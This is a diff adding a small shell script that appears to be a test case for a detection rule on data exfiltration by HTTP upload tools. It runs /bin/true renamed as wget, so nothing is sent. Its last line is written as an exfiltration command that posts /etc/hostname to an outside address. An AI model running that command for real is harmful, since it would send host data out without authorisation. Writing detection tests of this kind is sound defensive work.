@@ -1,0 +1,10 @@
+#!/bin/sh
+# what: Asks a program called wget to send a file away; it does nothing.
+# rule: upload_by_http_tool
+# technique: T1048.003
+# severity: medium
+# where: both
+d=$(mktemp -d)
+trap 'rm -rf "$d"' EXIT
+cp /bin/true "$d/wget"
+"$d/wget" -q --post-file=/etc/hostname http://198.51.100.7/upload
